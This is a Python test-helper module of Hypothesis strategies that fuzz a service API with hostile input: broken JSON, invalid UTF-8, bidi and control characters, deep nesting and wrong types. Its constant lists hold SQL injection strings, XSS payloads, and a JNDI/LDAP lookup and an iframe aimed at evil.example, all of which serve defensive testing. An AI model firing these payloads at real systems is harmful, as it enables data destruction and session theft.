"""Hypothesis strategies for hostile input, shared by every entry point's fuzz test.

What a careless client, a broken gateway or an attacker might send: nothing,
far too much, bytes that are not UTF-8, control and direction-override
characters, emoji, right-to-left script, SQL and HTML injection, values of
the wrong JSON type, JSON cut off half-way, keys given twice and nesting deep
enough to exhaust a recursive parser. Sizes stay bounded (at most
`HUGE_CHARS`) so a run fits in CI.
"""
from __future__ import annotations

import copy
import json
from typing import Any

from hypothesis import strategies as st

HUGE_CHARS = 100 * 1024
DEEP_LEVELS = 100_000  # far past Python's recursion limit, and still only 200 KB

SQL_INJECTION = (
    "'; DROP TABLE service; --",
    "' OR '1'='1",
    "\" OR 1=1 --",
    "1; DELETE FROM location WHERE 1=1",
    "'); DROP TABLE events; --",
    "Bergen' UNION SELECT id, name, source FROM service --",
    "%' AND 1=0 UNION SELECT NULL, NULL --",
    "'; SELECT pg_sleep(30); --",
    "\\'; TRUNCATE phone; --",
    "0x27 OR 1=1",
)
HTML_INJECTION = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=\"//evil.example\"></iframe>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "]]><!--<![CDATA[",
    "&lt;b&gt;&#x3C;script&#x3E;",
    "[klikk](javascript:alert(1))",
)
EMOJI = (
    "👩‍👩‍👧‍👦",  # a family: four people joined by zero-width joiners
    "🏳️‍🌈",
    "👍🏽",
    "🇳🇴",
    "💉💊🍺",
    "🧑‍🦯",
    "❤️‍🔥",
    "\U0001FAE0",  # newer than most fonts
)
RTL_AND_BIDI = (
    "مرحبا، أحتاج مساعدة",
    "אני צריך עזרה",
    "\u202eneg\u202c Bergen",  # right-to-left override
    "\u2067Oslo\u2069",  # isolates
    "\u200f\u200e\u061c",  # direction marks
    "ابحث في Bergen 5003",
    "\u202dhjelp\u202a\u202b\u202c",
)
CONTROL_CHARACTERS = "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xa0)))
ODD_SPACES = "\u00a0\u2000\u200b\u2028\u2029\u3000\ufeff\ufffd"
SAMPLES = SQL_INJECTION + HTML_INJECTION + EMOJI + RTL_AND_BIDI


def control_text(max_size: int = 200) -> st.SearchStrategy[str]:
    """Text made mostly of C0/C1 controls and odd spaces, with some letters in between."""
    return st.text(alphabet=st.sampled_from(CONTROL_CHARACTERS + ODD_SPACES + "hjelp "), max_size=max_size)


def huge_text(max_chars: int = HUGE_CHARS) -> st.SearchStrategy[str]:
    """One unit repeated to between 1 KB and `max_chars` characters."""
    units = st.sampled_from(("a", "hjelp ", "👩‍👩‍👧‍👦", "\u202e", "' OR 1=1 --", "<b>", "\x00")).filter(
        lambda unit: len(unit) <= max_chars)
    return st.builds(
        lambda unit, size: unit * max(1, size // len(unit)),
        units, st.integers(min_value=min(1024, max_chars), max_value=max_chars),
    )


def hostile_text(max_chars: int = HUGE_CHARS) -> st.SearchStrategy[str]:
    """A string as hostile as a string can be, at most `max_chars` characters long."""
    small = st.one_of(
        st.just(""),
        st.text(alphabet=" \t\n\r" + ODD_SPACES, max_size=20),
        st.sampled_from(SAMPLES),
        st.text(max_size=60),  # anything Unicode has, emoji and astral planes included
        control_text(60),
    )
    mixed = st.lists(small, min_size=2, max_size=6).map(" ".join)
    return st.one_of(small, mixed, huge_text(max_chars)).map(lambda text: text[:max_chars])


def header_text(max_chars: int = 300) -> st.SearchStrategy[str]:
    """Hostile text that can still go in an HTTP header (Latin-1, no line breaks), as http.client sends it."""
    return hostile_text(max_chars).map(lambda text: "".join(c for c in text if " " <= c <= "~" or "\xa0" <= c <= "\xff"))


def json_values(max_leaves: int = 8) -> st.SearchStrategy[Any]:
    """Any JSON value, strings hostile, numbers out of every range."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(200),
    )
    return st.recursive(
        scalars,
        lambda children: st.one_of(st.lists(children, max_size=4),
                                   st.dictionaries(hostile_text(20), children, max_size=4)),
        max_leaves=max_leaves,
    )


def wrong_types() -> st.SearchStrategy[Any]:
    """Anything but a usable string: where a string is expected, these must be refused, not crash."""
    return st.one_of(
        st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70), st.floats(),
        st.lists(json_values(4), max_size=3), st.dictionaries(hostile_text(20), json_values(4), max_size=3),
    )


def deep_nesting() -> st.SearchStrategy[bytes]:
    """Arrays or objects nested up to DEEP_LEVELS deep, closed or not."""
    return st.builds(
        lambda opening, levels, closed: (opening[0] * levels + (opening[1] * levels if closed else "")).encode(),
        st.sampled_from((("[", "]"), ('{"a":', "}"))), st.integers(min_value=500, max_value=DEEP_LEVELS), st.booleans(),
    )


def _dumps(value: Any) -> bytes:
    """JSON as a sloppy client writes it: NaN and Infinity included, escapes or raw UTF-8."""
    return json.dumps(value).encode()


def _first_key_twice(body: bytes) -> bytes:
    """The first object's first key given again, before, with a wrong type (JSON parsers keep the last)."""
    opening = body.find(b'{"')
    key_end = body.find(b'":', opening + 2)
    if opening < 0 or key_end < 0:
        return body
    return body[:opening + 1] + body[opening + 1:key_end + 2] + b" [1, null], " + body[opening + 1:]


def hostile_body(valid: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    """A request body: broken versions of `valid` (a strategy of good payloads) or plain garbage bytes."""
    encoded = valid.map(_dumps)
    return st.one_of(
        st.just(b""),
        st.binary(max_size=300),
        st.sampled_from((b"\xff\xfe\x00", b"\xc3\x28", b"\xed\xa0\x80", b'{"message": "\xff"}', b"\xef\xbb\xbf{}")),
        encoded.flatmap(lambda body: st.integers(0, max(0, len(body) - 1)).map(lambda cut: body[:cut])),
        encoded.map(_first_key_twice),
        st.sampled_from((b'"\\ud800"', b'{"message": "\\udfff"}', b"NaN", b"[1e99999]", b"null", b"true")),
        deep_nesting(),
        json_values().map(_dumps),
    )


def hostile_payload(fields: dict[str, st.SearchStrategy[Any]]) -> st.SearchStrategy[dict[str, Any]]:
    """A JSON object with the given fields, extra keys beside them; some fields given a wrong type, hostile text or left out.

    Each field keeps a good value seven times in ten, so most payloads get
    past the first check and the later ones are fuzzed too.
    """
    fates = ("good",) * 7 + ("wrong type", "hostile text", "left out")
    spoilers = {"good": None, "wrong type": wrong_types(), "hostile text": hostile_text(2000), "left out": st.just(DELETE)}

    def field(good: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
        return st.sampled_from(fates).flatmap(lambda fate: good if spoilers[fate] is None else spoilers[fate])

    given = st.fixed_dictionaries({name: field(good) for name, good in fields.items()})
    extra = st.dictionaries(hostile_text(20), json_values(4), max_size=3)
    return st.builds(lambda values, more: {**more, **{k: v for k, v in values.items() if v is not DELETE}}, given, extra)


DELETE = object()  # a mutation that removes the field


def _paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    """Every key or index path inside a JSON value, containers included."""
    found = [prefix] if prefix else []
    if isinstance(value, dict):
        for key, item in value.items():
            found += _paths(item, (*prefix, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found += _paths(item, (*prefix, index))
    return found


def _mutated(record: dict[str, Any], changes: list[tuple[tuple, Any]]) -> dict[str, Any]:
    result = copy.deepcopy(record)
    for path, new in changes:
        parent = result
        try:
            for step in path[:-1]:
                parent = parent[step]
            if new is DELETE:
                del parent[path[-1]]
            else:
                parent[path[-1]] = new
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change removed or replaced this path
    return result


def spoiled_record(valid: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """`valid` (an HSDS service object) with one to three fields anywhere in it removed or made hostile.

    Some of these are still valid records (an emoji description is a fine
    description); the rest must be refused with every problem named.
    """
    change = st.tuples(st.sampled_from(_paths(valid)),
                       st.one_of(st.just(DELETE), hostile_text(2000), wrong_types()))
    return st.lists(change, min_size=1, max_size=3).map(lambda changes: _mutated(valid, changes))
